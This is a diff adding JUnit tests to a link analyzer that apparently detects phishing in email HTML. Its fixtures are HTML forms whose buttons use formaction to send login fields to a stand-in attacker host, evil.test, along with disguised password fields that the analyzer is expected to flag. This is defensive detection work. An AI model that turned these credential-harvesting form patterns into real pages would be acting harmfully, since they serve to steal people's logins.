@@ -106,6 +106,33 @@ class LinkAnalyzerTest {
     }
 
     @Test
+    void aFormSubmittedElsewhereByItsButtonsFormactionIsACredentialForm() {
+        assertThat(analyzeHtml("<form><input name='id'><button formaction='https://evil.test/collect'>Login</button>"
+                + "</form>")).contains(Finding.of("HTML_CREDENTIAL_FORM", "action=evil.test from=example.com"));
+        assertThat(analyzeHtml("<form action='https://www.example.com/x'><input name='id'>"
+                + "<input type='image' src='cid:b' formaction='https://evil.test/c'></form>"))
+                .contains(Finding.of("HTML_CREDENTIAL_FORM", "action=evil.test from=example.com"));
+        // a password form posting to the sender's site, whose button posts elsewhere
+        assertThat(analyzeHtml("<form action='https://www.example.com/x'><input type='password'>"
+                + "<button formaction='https://evil.test/c'>Login</button></form>")).contains(
+                Finding.of("HTML_CREDENTIAL_FORM", "password action=www.example.com; password action=evil.test"));
+    }
+
+    @Test
+    void aTextFieldMaskedOrNamedAsAPasswordIsAPasswordInput() {
+        assertThat(analyzeHtml("<form action='https://www.example.com/x'><input name='id'>"
+                + "<input name='secret' style='-webkit-text-security: disc'></form>"))
+                .contains(Finding.of("HTML_CREDENTIAL_FORM", "password action=www.example.com"));
+        assertThat(analyzeHtml("<input name='id'><input name='pw'>")).contains(
+                Finding.of("HTML_CREDENTIAL_FORM", "password input"));
+        assertThat(analyzeHtml("<input placeholder='パスワード'>")).contains(
+                Finding.of("HTML_CREDENTIAL_FORM", "password input"));
+        // a search box or a passport number is no password
+        assertThat(analyzeHtml("<form action='https://www.example.com/s'><input name='q'><input name='passport'>"
+                + "</form>")).extracting(Finding::code).doesNotContain("HTML_CREDENTIAL_FORM");
+    }
+
+    @Test
     void anEncodedHostIsReadAsUtf8BytesAsTheBrowserReadsIt() {
         // %E4%BE%8B%E3%81%88 is the UTF-8 of 例え: the host is 例え.jp, not six Latin-1 letters
         assertThat(analyzeHtml("<a href='https://%E4%BE%8B%E3%81%88.jp/'>x</a>")).contains(
